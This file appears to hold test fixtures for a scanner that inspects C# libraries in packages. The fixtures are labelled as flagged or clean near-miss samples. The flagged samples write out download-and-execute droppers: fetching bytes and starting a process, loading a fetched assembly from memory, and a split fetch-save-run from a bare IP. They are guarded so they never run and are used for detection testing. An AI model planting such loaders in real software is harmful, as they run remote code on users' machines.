import { csharp, type CSharp, type Examples } from '../../../tests/kit/examples.js';

const usings = `using System;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Reflection;
using System.Threading.Tasks;
`;

/** Nobody sets it: what is below is read, never run. */
const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

function library(text: string): Record<string, CSharp> {
  return { 'lib/net10.0/Fixture.dll': csharp(`${usings}${text}`) };
}

export const examples: Examples = {
  flagged: [
    {
      name: 'dropper',
      about: 'One async method fetches bytes, writes them and starts a file that a variable names.',
      files: library(`
public static class Helper
{
    public static async Task Prepare()
    {
        ${never}
        var path = Path.Combine(Path.GetTempPath(), "helper.exe");
        var bytes = await new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/helper.bin");
        await File.WriteAllBytesAsync(path, bytes);
        Process.Start(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!);
    }
}`),
    },
    {
      name: 'loads-what-it-fetches',
      about: 'Something is downloaded, and an assembly loaded from memory, the load in a lambda.',
      files: library(`
public static class Helper
{
    public static void Prepare()
    {
        ${never}
        Func<byte[], Assembly> load = bytes => Assembly.Load(bytes);
        new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Wait();
        load(File.ReadAllBytes(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!));
    }
}`),
    },
    {
      name: 'split-with-address',
      about: 'Spread over three methods of a class that fetches from a bare address.',
      files: library(`
public static class Helper
{
    private static byte[] Fetch() => new HttpClient().GetByteArrayAsync("http://192.0.2.10:8080/a").Result;
    private static void Save(string path) => File.WriteAllBytes(path, Fetch());
    public static void Prepare(string path)
    {
        ${never}
        Save(path);
        Process.Start(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!);
    }
}`),
    },
    {
      name: 'updater',
      about: 'The shape of an honest updater: several methods, a maker’s host, TLS. Noted.',
      level: 'note',
      files: library(`
public class Updater
{
    private readonly HttpClient http = new();
    public async Task Download(string version, string path)
    {
        using var source = await http.GetStreamAsync("https://downloads.fixture.invalid/" + version);
        using var target = File.Create(path);
        await source.CopyToAsync(target);
    }
    public void Install(string path)
    {
        ${never}
        Process.Start(path);
    }
}`),
    },
  ],
  clean: [
    {
      name: 'opens-web-page',
      about: 'Asks a service and opens a page in the browser: no file is written.',
      nearMiss: true,
      files: library(`
public static class Helper
{
    public static async Task Login()
    {
        var page = await new HttpClient().GetStringAsync("https://login.fixture.invalid/start");
        Process.Start(new ProcessStartInfo(page) { UseShellExecute = true });
    }
}`),
    },
    {
      name: 'downloads-data',
      about: 'Fetches a file and writes it, and starts nothing.',
      nearMiss: true,
      files: library(`
public static class Helper
{
    public static async Task Fetch(string path) =>
        await File.WriteAllBytesAsync(path, await new HttpClient().GetByteArrayAsync("https://data.fixture.invalid/a"));
}`),
    },
    {
      name: 'loads-by-path',
      about: 'Fetches a list of plug-ins, and loads those that lie beside it.',
      nearMiss: true,
      files: library(`
public static class Helper
{
    public static async Task<Assembly> Plugin(string folder)
    {
        var name = await new HttpClient().GetStringAsync("https://plugins.fixture.invalid/newest");
        return Assembly.LoadFrom(Path.Combine(folder, name));
    }
}`),
    },
    {
      name: 'other-classes',
      about: 'A client and a process runner, each in its own class.',
      files: library(`
public static class Client
{
    public static Task<byte[]> Fetch(string url) => new HttpClient().GetByteArrayAsync(url);
    public static void Save(string path, byte[] bytes) => File.WriteAllBytes(path, bytes);
}
public static class Runner
{
    public static void Run(string path) => Process.Start(path).WaitForExit();
}`),
    },
  ],
};
